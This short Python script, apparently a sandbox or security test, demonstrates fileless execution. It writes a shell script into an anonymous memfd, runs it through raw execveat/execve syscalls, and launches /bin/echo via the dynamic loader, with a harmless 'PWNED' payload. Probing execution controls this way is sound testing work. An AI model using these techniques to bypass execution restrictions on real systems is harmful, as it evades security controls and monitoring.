"""Run a program that lies in no file."""
import ctypes, os
from attack import right as solve
c = ctypes.CDLL(None)
try:
    descriptor = os.memfd_create("x", 0)
    os.write(descriptor, b"#!/bin/sh\necho PWNED\n")
    c.syscall(322, descriptor, b"", (ctypes.c_char_p * 2)(b"x", None), (ctypes.c_char_p * 1)(None), 0x1000)
    os.execve(descriptor, ["x"], {})
except OSError as error:
    print(error)
library = next((path for path in ("/lib64/ld-linux-x86-64.so.2",) if os.path.exists(path)), "")
if c.syscall(59, library.encode(), (ctypes.c_char_p * 3)(b"ld", b"/bin/echo", None), None) >= 0:
    print("never")
